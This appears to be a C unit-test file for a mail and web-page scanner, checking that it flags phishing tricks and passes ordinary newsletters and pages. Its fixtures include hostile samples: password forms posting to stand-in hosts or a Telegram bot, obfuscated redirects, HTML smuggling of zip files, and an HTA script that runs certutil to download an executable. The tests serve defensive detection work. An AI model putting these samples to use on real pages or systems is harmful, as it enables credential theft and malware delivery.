/* test_page.c - pages as the bodies of mails and as files: what is told of them, and what ordinary ones do not cause.
 */
#include "exam_test.h"

#include "markup/markup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

static struct exam_test *test;

static int begin(void **state)
{
	(void)state;
	test = exam_test_new();
	return 0;
}

static int end(void **state)
{
	(void)state;
	exam_test_free(test);
	return 0;
}

static void read_body(struct exam *e, const struct part *part)
{
	struct part body = *part;

	body.inline_body = true;
	markup_page(e, &body);
}

static void open_body(const char *html)
{
	exam_test_open(test, read_body, text_span(html), "body.html");
}

static void open_page(const char *html)
{
	exam_test_open(test, markup_page, text_span(html), "page.html");
}

static void expect(enum finding_id id, const char *evidence)
{
	if (exam_test_found(test, id, evidence))
		return;
	exam_test_show(test);
	fail_msg("%s: %s is missing", finding_rows[id].key, evidence);
}

static void expect_not(enum finding_id id)
{
	if (!exam_found(&test->exam, id))
		return;
	exam_test_show(test);
	fail_msg("%s is there", finding_rows[id].key);
}

static void expect_nothing(void)
{
	if (test->exam.found_count)
		exam_test_show(test);
	assert_int_equal(test->exam.found_count, 0);
}

static void test_links(void **state)
{
	(void)state;
	open_body("<p>Hello&nbsp;<b>you</b>,\n see <a href='https://a.example/?x=1&amp;y=2'>www.<i>b</i>.example</a>!"
		  "<map><area href=https://area.example></map><a href='#x'>y</a>"
		  "<!--[if mso]><v:roundrect href='https://mso.example/'></v:roundrect><![endif]--><!--[if !mso]><a "
		  "href='https://no.example'></a><![endif]-->");
	assert_string_equal(test->urls[0].url, "https://a.example/?x=1&y=2");
	assert_string_equal(test->urls[0].shown, "www.b.example");
	assert_true(exam_test_url(test, "https://area.example"));
	assert_true(exam_test_url(test, "https://mso.example/"));
	assert_int_equal(test->url_count, 3);
	assert_string_equal(test->text, "Hello\xc2\xa0you, see www.b.example!y\n");
	open_body("<base href='https://base.example/x'><a href='login'>z</a><a href='https://full.example/'>z</a>");
	assert_true(exam_test_url(test, "https://base.example/x/login"));
	assert_true(exam_test_url(test, "https://full.example/"));
}

static void test_hidden(void **state)
{
	char many[4096] = "<div style='display : none'>";

	(void)state;
	for (int i = 0; i < 200; i++)
		text_append(many, sizeof(many), "buster words ");
	text_append(many, sizeof(many), "</div>Seen");
	open_body(many);
	expect(FINDING_TEXT_HIDDEN, "letters");
	assert_string_equal(test->text, "Seen\n");
	open_body("<div style='display:none;max-height:0'>A preheader of a newsletter</div><p>What this newsletter is "
		  "about, at some length");
	expect_nothing();
	*many = '\0';
	for (int i = 0; i < 10; i++)
		text_append(many, sizeof(many), "Mi<span style='font-size:0%s'>zq</span>cro", i % 2 ? "px" : "");
	open_body(many);
	expect(FINDING_TEXT_HIDDEN, "pieces");
	open_body("<p>Hello<br style='font-size:0'>, this is a longer letter with many words, so that it is more than "
		  "a picture");
	expect_nothing();
}

static void test_picture_only(void **state)
{
	(void)state;
	open_body("<p><img src='cid:1'></p>");
	expect(FINDING_QR_ONLY, "1 pictures");
	open_body("<img src='cid:logo'><p>Dear colleagues, the minutes of our meeting are attached. Kind regards");
	expect_nothing();
	open_body(
		"<img src='\\\\files.bad.example\\a.png'><p>Dear colleagues, the minutes of our meeting are attached.");
	assert_true(exam_test_url(test, "\\\\files.bad.example\\a.png"));
}

static void test_same_links(void **state)
{
	(void)state;
	open_body("<a href='https://bad.example/x'>Your prize</a> <a href='https://bad.example/x'>Open</a> for all of "
		  "our customers "
		  "<a href='https://bad.example/x'>Privacy</a> <a href='https://bad.example/x'>Unsubscribe</a>");
	expect(FINDING_LINKS_SAME, "https://bad.example/x");
	open_body("<a href='https://shop.example/x'>The offer</a> <a href='https://shop.example/x'>Open</a> for all of "
		  "our customers "
		  "<a href='https://shop.example/x'>More</a> <a href='https://shop.example/leave'>Unsubscribe</a>");
	expect_nothing();
	open_body("<a href='https://shop.example/x'>Open</a> is what you have to press, and whatever happens, "
		  "<a href='https://shop.example/x'>Open</a> <a href='https://shop.example/x'>Open</a> <a "
		  "href='https://shop.example/x'>Open</a>");
	expect_nothing();
}

static void read_words(struct exam *e, const struct part *part)
{
	struct part body = *part;

	body.inline_body = true;
	markup_disguise(e, &body, part->bytes);
}

static void test_disguise(void **state)
{
	static const char *const disguised[] = {
		"Mi\xf3\xa0\x84\xb9"
		"cr\xf3\xa0\x84\xb9os\xf3\xa0\x84\xb9of\xf3\xa0\x84\xb9t",
		"P\xe2\x81\xa0"
		"a\xe2\x81\xa0y\xe2\x81\xa0P\xe2\x81\xa0"
		"al",
		"\xd0\xa0"
		"ayment Rest\xd0\xbe"
		"re Acc\xd0\xbe"
		"unt", /* Cyrillic */
	};
	static const char *const plain[] = {
		"Dona\xc2\xadu\xc2\xad"
		"dampf\xc2\xadschiff\xc2\xad"
		"fahrt", /* soft hyphens */
		"some\xe2\x80\x8bLong\xe2\x80\x8bName and @\xe2\x80\x8bname",
		"preheader\xe2\x80\x8c \xe2\x80\x8c \xe2\x80\x8c \xe2\x80\x8c \xe2\x80\x8c text",
		"\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 Windows \xce\xb1 beta",
		"\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae\xd9\x88\xd8\xa7\xd9\x87\xd9\x85", /* Persian needs them */
	};

	(void)state;
	for (size_t i = 0; i < sizeof(disguised) / sizeof(disguised[0]); i++) {
		exam_test_open(test, read_words, text_span(disguised[i]), "body.txt");
		expect(FINDING_WORDS_DISGUISED, "");
	}
	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		exam_test_open(test, read_words, text_span(plain[i]), "body.txt");
		expect_nothing();
	}
}

static void test_forms(void **state)
{
	(void)state;
	open_page("<form action='https://bad.example/p.php'><input name=u><input type='Password'></form>");
	expect(FINDING_PAGE_PASSWORD, "https://bad.example/p.php");
	open_page("<form action='next.php'><input placeholder='Ihr Passwort'></form>");
	expect(FINDING_PAGE_PASSWORD, "next.php");
	open_page("<input type=password><script>$.ajax({type:'POST', "
		  "url:'https://'+'bad.example/'+'post.php'})</script>");
	expect(FINDING_PAGE_PASSWORD, "https://bad.example/post.php");
	open_page("<input type=password><script>fetch(`https://api.telegram.org/bot1:AA/sendMessage`)</script>");
	expect(FINDING_PAGE_PASSWORD, "api.telegram.org/bot1");
	open_page("<form action='https://shop.example/search'><input name=q></form>");
	expect_nothing();
	assert_true(exam_test_url(test, "https://shop.example/search"));
}

static void test_redirects(void **state)
{
	static const char *const pages[] = {
		"<meta http-equiv=\"Refresh\" content=\"0; URL='https://bad.example/'\">",
		"<script>window.location.href = \"https://bad.example/\"</script>",
		"<script>window['location'].replace('htt'+'ps://bad.'+'example/')</script>",
		"<script>location=\"\\x68\\x74\\x74ps://bad.example/\"</script>",
		"<script>top.location = atob('aHR0cHM6Ly9iYWQuZXhhbXBsZS8/bG9uZ2VyPTE=')</script>",
		("<script>location.assign(String.fromCharCode(104,116,116,112,115,58,47,47,98,97,100,46,101,120,97,109,"
		 "112,108,101,47))</script>"),
		"<body onload=\"location='https://bad.example/'\">",
		"<body onload=\"document.links[0].click()\"><a href='https://bad.example/'>Open</a>",
		"<form action='https://bad.example/'><input name=a></form><script>document.forms[0].submit()</script>",
		"<svg><script>&#108;ocation='https://bad.example/'</script></svg>",
	};
	static const char *const harmless[] = {
		"<meta http-equiv=refresh content=300><p>A report",
		"<script>if (location.hash == '#a') show()</script>",
		"<script>location.href = '#top'; location.reload()</script>",
		"<script>if (top !== self) top.location = self.location</script>",
		"<meta name=location content='https://shop.example/'>",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		open_page(pages[i]);
		expect(FINDING_PAGE_REDIRECT, "https://bad.example/");
	}
	for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++) {
		open_page(harmless[i]);
		expect_not(FINDING_PAGE_REDIRECT);
	}
	open_body("<meta http-equiv=refresh content='0;url=https://a.example/'><p>Mail programs do not follow this, so "
		  "it is a link.");
	expect_nothing();
	assert_true(exam_test_url(test, "https://a.example/"));
}

static void test_frames(void **state)
{
	(void)state;
	open_page("<iframe src='https://bad.example/x'></iframe>");
	expect(FINDING_PAGE_FRAME, "https://bad.example/x");
	open_page("<script src='//cdn.example/a.js'></script>");
	expect(FINDING_PAGE_SCRIPT, "cdn.example");
	open_page("<script type='application/ld+json'>{\"@type\": \"Order\"}</script>");
	expect_nothing();
	open_page("<iframe srcdoc='&lt;form&gt;x'></iframe>");
	assert_non_null(exam_test_part(test, "srcdoc.html"));
	open_page("<p>A page <b>without</b> anything active</p><iframe src='part.html'></iframe>");
	expect_nothing();
	open_body("<p>Some words that a mail has, and no more than that, with a signature</p><script>var tracking = "
		  "1</script>");
	expect_nothing();
}

/* A zip with an empty directory of its own and some text, in base64. */
#define ZIP64                                                                                                          \
	"UEsDBBQAAAAAAAAAIQAAAAAAAAAAAAAAAAAFAAAAYS50eHRoYXJtbGVzcyB0ZXh0IHRoYXQgaXMgbG9uZyBlbm91Z2ggdG8gYmUgYSBmaWxl" \
	"IG9mIGl0cyBvd24sIGFuZCBub3RoaW5nIG1vcmU="

static void test_smuggling(void **state)
{
	static const char *const pages[] = {
		"<script>var b=atob('" ZIP64
		"');var u=URL.createObjectURL(new Blob([b]));a.href=u;a.download='in'+'voice.zip';a.click()</script>",
		"<script>navigator.msSaveOrOpenBlob(f(\"" ZIP64 "\"), \"invoice.zip\")</script>",
		"<a href='data:application/zip;base64," ZIP64 "' download='invoice.zip'>Open</a>",
		"<body onload=\"a.setAttribute('download', 'invoice.zip');saveAs(atob('" ZIP64 "'))\">",
	};
	char page[4096] = "<script>a.download='invoice.zip';new Blob([new Uint8Array([";

	(void)state;
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		open_page(pages[i]);
		expect(FINDING_SMUGGLING, "invoice.zip (zip");
		assert_non_null(exam_test_part(test, "invoice.zip"));
	}
	for (int i = 0; i < 80; i++)
		text_append(page, sizeof(page), "%s%u", i ? "," : "80,75,3,4,", i);
	text_append(page, sizeof(page), "])]);a.click()</script>");
	open_page(page);
	expect(FINDING_SMUGGLING, "invoice.zip (zip, 84 bytes)");
	/* hidden by XOR with 42 */
	snprintf(page, sizeof(page), "<script>var k='");
	for (int i = 0; i < 80; i++)
		text_append(page, sizeof(page), "%02x", (i < 4 ? "PK\3\4"[i] : i) ^ 42);
	text_append(page, sizeof(page),
		    "';d=h(k).map(c=>c^42);a.download='invoice.zip';new Blob([d]);a.click()</script>");
	open_page(page);
	expect(FINDING_SMUGGLING, "invoice.zip (zip, 80 bytes)");
}

static void test_no_smuggling(void **state)
{
	char page[8192] = "<script>var csv=rows.join();a.href=URL.createObjectURL(new "
			  "Blob([csv]));a.download='table.csv';a.click();var logo='";

	(void)state;
	open_page("<script>var "
		  "p='data:image/"
		  "png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
		  "RU5ErkJggg==';new Blob([p]);a.download='x.png';a.click()</script>");
	expect_not(FINDING_SMUGGLING);
	for (int i = 0; i < 300; i++)
		text_append(page, sizeof(page), "AbCd%04d", i);
	text_append(page, sizeof(page), "'</script>");
	open_page(page);
	expect_not(FINDING_SMUGGLING);
	open_body("<script>a.download='invoice.zip';new Blob([atob('" ZIP64 "')]);a.click()</script>");
	expect_not(FINDING_SMUGGLING);
}

/* A page that has something to read beside its script. */
#define READABLE "<p>The figures of the last month, by department and by week.</p>"

static void test_written(void **state)
{
	(void)state;
	open_page("<script>document.write(unescape('%3Cform%20action%3Dhttps%3A//bad.example/"
		  "%3E%3Cinput%20type%3Dpassword%3E'))</script>");
	expect(FINDING_SCRIPT_HIDDEN, "a page");
	assert_non_null(exam_test_part(test, "written.html"));
	assert_int_equal(exam_test_part(test, "written.html")->type, TYPE_HTML);
	open_page("<script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxpZnJhbWUgc3JjPWh0dHBzOi8vYmFkLmV4YW1wbGUvPiIpOw=='))</"
		  "script>");
	expect(FINDING_SCRIPT_HIDDEN, "a page");
	open_page("<script>document.write('<form action=\"https://bad.example/\"><input type=password>')</script>");
	assert_non_null(exam_test_part(test, "written.html"));
	open_page(READABLE "<script>el.innerHTML = '<div class=\"a\">' + rows + '</div>'</script>");
	expect_not(FINDING_SCRIPT_HIDDEN);
	assert_int_equal(test->part_count, 0);
}

static void test_scrambled(void **state)
{
	char page[4096] = "<script>";

	(void)state;
	for (int i = 0; i < 40; i++)
		text_append(page, sizeof(page), "var _0x%04x=_0x12ab(%d);", i * 77, i);
	text_append(page, sizeof(page), "</script>");
	open_page(page);
	expect(FINDING_SCRIPT_HIDDEN, "scrambled");
	open_page(READABLE "<script>var a = _0x1 + 1; function f(n) { return n * 2 }</script>");
	expect_not(FINDING_SCRIPT_HIDDEN);
	open_page("<script>var a = _0x1 + 1; function f(n) { return n * 2 }</script>");
	expect(FINDING_SCRIPT_HIDDEN, "nothing but a script");
}

static void open_svg(const char *svg)
{
	exam_test_open(test, markup_page, text_span(svg), "picture.svg");
}

static void test_svg(void **state)
{
	(void)state;
	open_svg("<svg "
		 "xmlns='http://www.w3.org/2000/svg'><script><![CDATA[window.location='https://bad.example/']]></"
		 "script></svg>");
	expect(FINDING_SVG_SCRIPT, "bytes");
	expect(FINDING_PAGE_REDIRECT, "https://bad.example/");
	open_svg("<svg onload=\"location.href='https://bad.example/'\"/>");
	expect(FINDING_PAGE_REDIRECT, "https://bad.example/");
	open_svg("<svg><script xlink:href='https://bad.example/a.js'/></svg>");
	expect(FINDING_SVG_SCRIPT, "https://bad.example/a.js");
	open_svg("<svg><a xlink:href='https://a.example/'><text>Go</text></a></svg>");
	assert_true(exam_test_url(test, "https://a.example/"));
	open_svg("<?xml version='1.0'?><svg viewBox='0 0 1 1'><style>.a{fill:red}</style><path d='M0 0h1'/></svg>");
	expect_nothing();
}

static void test_hta(void **state)
{
	(void)state;
	exam_test_open(test, markup_page,
		       text_span("<script language=vbscript>Set s = CreateObject(\"WScript.Shell\")\ns.Run \"certutil "
				 "-urlcache -f "
				 "http://192.0.2.7/a.exe\"</script>"),
		       "a.hta");
	expect(FINDING_SCRIPT_COMMAND, "WScript.Shell");
	exam_test_open(test, markup_page, text_span("<script>document.title = 'A program with a window'</script>"),
		       "a.hta");
	expect_not(FINDING_SCRIPT_COMMAND);
	expect_not(FINDING_SCRIPT_CALLS);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_links),        cmocka_unit_test(test_hidden),
		cmocka_unit_test(test_picture_only), cmocka_unit_test(test_same_links),
		cmocka_unit_test(test_disguise),     cmocka_unit_test(test_forms),
		cmocka_unit_test(test_redirects),    cmocka_unit_test(test_frames),
		cmocka_unit_test(test_smuggling),    cmocka_unit_test(test_no_smuggling),
		cmocka_unit_test(test_written),      cmocka_unit_test(test_scrambled),
		cmocka_unit_test(test_svg),          cmocka_unit_test(test_hta),
	};

	return cmocka_run_group_tests(tests, begin, end);
}
